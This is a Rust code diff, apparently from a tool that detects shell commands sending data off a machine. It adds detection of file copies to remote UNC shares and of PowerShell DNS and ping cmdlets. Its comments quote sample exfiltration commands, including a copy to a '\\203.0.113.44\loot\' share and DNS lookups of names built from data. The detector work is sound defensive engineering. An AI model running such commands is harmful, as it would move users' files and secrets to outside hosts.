@@ -10,6 +10,16 @@ fn is_local(host: &str) -> bool {
     host.contains("localhost") || host.contains("127.0.0.1") || host.contains("[::1]")
 }
 
+/// The host of a UNC path (`\\host\share\…`, `//host/share/…`), not a device path
+/// (`\\.\PhysicalDrive0`, `\\?\…`).
+pub(crate) fn unc_host(path: &str) -> Option<&str> {
+    let rest = path
+        .strip_prefix("\\\\")
+        .or_else(|| path.strip_prefix("//"))?;
+    let host = rest.split(['\\', '/']).next()?;
+    (!host.is_empty() && host != "." && host != "?" && !host.contains(['$', '*'])).then_some(host)
+}
+
 /// Whether `c` sends what it read over the network: (the destination, reads stdin).
 pub(super) fn sink(c: &SimpleCommand) -> Option<(String, bool)> {
     let raws: Vec<&str> = raw(c).collect();
@@ -143,7 +153,21 @@ pub(super) fn sink(c: &SimpleCommand) -> Option<(String, bool)> {
         "mail" | "mailx" | "sendmail" | "mutt" => c.positionals().last()?.text.clone(),
         // a DNS lookup of a name built from data (`dig $(…).x.example`, `xargs -I{} nslookup
         // {}.x.example`) carries the data to whoever serves that zone
-        "dig" | "nslookup" | "host" | "drill" | "kdig" | "delv" | "ping" | "resolvectl" => {
+        // a copy to a share on another host (`Copy-Item X \\203.0.113.44\loot\`, `copy X
+        // \\host\c$\…`): the files leave the machine
+        "Copy-Item" | "Move-Item" | "robocopy" | "xcopy" => {
+            let dest = c
+                .args
+                .iter()
+                .find_map(|a| a.text.strip_prefix("-Destination="))
+                .map(str::to_string)
+                .or_else(|| c.positionals().last().map(|w| w.text.clone()))?;
+            let host = unc_host(&dest)?;
+            // the items piped in are what it copies
+            return (!is_local(host)).then(|| (dest.clone(), c.stdin.is_some()));
+        }
+        "dig" | "nslookup" | "host" | "drill" | "kdig" | "delv" | "ping" | "resolvectl"
+        | "Resolve-DnsName" | "Test-Connection" | "Test-NetConnection" => {
             let name = c
                 .positionals()
                 .find(|w| w.text.contains('.') && !w.text.starts_with('@'))?;
